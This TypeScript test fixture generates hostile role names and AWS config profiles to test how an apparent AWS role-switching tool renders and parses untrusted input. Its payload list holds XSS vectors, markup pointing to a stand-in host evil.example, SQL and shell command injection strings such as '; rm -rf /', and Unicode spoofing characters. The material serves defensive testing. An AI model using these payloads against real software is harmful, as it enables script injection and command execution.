import type { Role } from '../../src/core/catalogue.js';

/** Texts that mean something to some interpreter, or look like something else than they are. */
const payloads: readonly string[] = [
  '<img src=x onerror=alert(1)>', '<IMG SRC=x ONERROR=alert(1)//', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '</script><script>alert(1)</script>', '</textarea><img src=x onerror=alert(1)>', '</title><img src=x onerror=alert(1)>',
  '</style><style>*{display:none}</style>', '<style>@import "https://evil.example/x"</style>', '<iframe srcdoc="<b>">', '<iframe src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<form action=https://evil.example/><input name=x>', '<!--', '-->', '<![CDATA[x]]>',
  '<details open ontoggle=alert(1)>', '<body onload=alert(1)>', '<sallyport-stripe>', '<template><b>', '<b', '<>', '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
  'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', 'chrome-extension://x/options.html', 'https://evil.example/',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{1+1}', '<%= 1 %>', '{line}', '{role}', '{because}', '__MSG_x__', '$1', '$&', '$$', '%s%n%x', '%00', '%3Cb%3E',
  '&lt;img src=x&gt;', '&#x3c;b&#x3e;', '&amp;nbsp;', '&', '\\u003cb\\u003e', '\\', '\\"', "'; DROP TABLE roles; --", '`id`', '$(id)', '; rm -rf /', '| cat',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e999', '[object Object]',
  '\u202ednim-dorp', 'prod\u202e4444 4444 4444', '\u2066x\u2069', '\u2067\u202d\u2069\u2069', '\u200fx', '\u200ex', '\u061cx', '\u202a\u202b\u202c',
  'מנהל', 'מנהל 1234', 'مدير ١٢٣', 'a מנהל b', '\u200b', 'pro\u200bd', '\u200d', '\ufeffprod', '\u2060', 'pr\u00adod', '\u034f', '\u180e', 'prоd',
  '\0', 'a\0b', '\u0001\u0002', '\u001b[31mred', '\u0007', '\u0008\u0008', '\u007f', '\u0085', 'a\tb', '\u2028', '\u2029', 'a\u2028b', '\ud800', '\udc00', 'a\ud83d', '\ufffe', '\uffff',
  '😀', '👩‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇯🇵', 'Z̸̢̛͔a̵l̶g̷o̸', 'é'.repeat(32), '﷽', '𒐫', '　', ' ', '\u00a0', '…', '·', '●', '? ', '￼',
  'two  spaces', 'x'.repeat(64), 'x'.repeat(65), 'x'.repeat(65_536), '<b>'.repeat(21_845), '😀'.repeat(32), `${'x'.repeat(63)}😀`, '\u0301'.repeat(64), '​'.repeat(64), ' x'.repeat(32),
];

/** Names that an attacker might give: each payload alone, and many of them after a harmless beginning. */
export const hostileNames: readonly string[] = [...new Set([...payloads, ...payloads.filter((name) => name.length < 60).map((name) => `prod ${name}`)])];

/** As many harmless ones: what the views look like with these, they must look like with the others. */
export const harmlessNames: readonly string[] = hostileNames.map((_, at) => `role-${at}`);

/** As many roles as there are names, every second one behind the one before it; AWS has none of them. */
export function rolesNamed(names: readonly string[]): Role[] {
  return names.map((name, at) => ({
    id: `role-${at}`, name, accountName: name, arn: 'arn:aws:iam::222222222222:role/nowhere', colour: '#c62828', region: 'us-east-1', destination: '',
    source: at % 2 === 0 ? { kind: 'identity', id: 'alice' } : { kind: 'role', id: `role-${at - 1}` },
  }));
}

/** The text of `~/.aws/config` in which these are names of profiles, and values of what can be wrong with one. */
export function configWith(names: readonly string[]): string {
  const profiles = names.map((name, at) => `[profile ${name}]
role_arn = arn:aws:iam::222222222222:role/imported-${at}
source_profile = alice
region = ${name}
[profile left out ${name}]
role_arn = ${name}
[profile alone ${name}]
source_profile = ${name}
[profile process ${name}]
credential_process = ${name}
[profile twice ${at}]
${name.replace(/[=[\]\r\n]/g, '')} = 1
${name.replace(/[=[\]\r\n]/g, '')} = 2`);
  return [...profiles, '[profile good one]', 'role_arn = arn:aws:iam::222222222222:role/good', 'source_profile = alice', ''].join('\n');
}
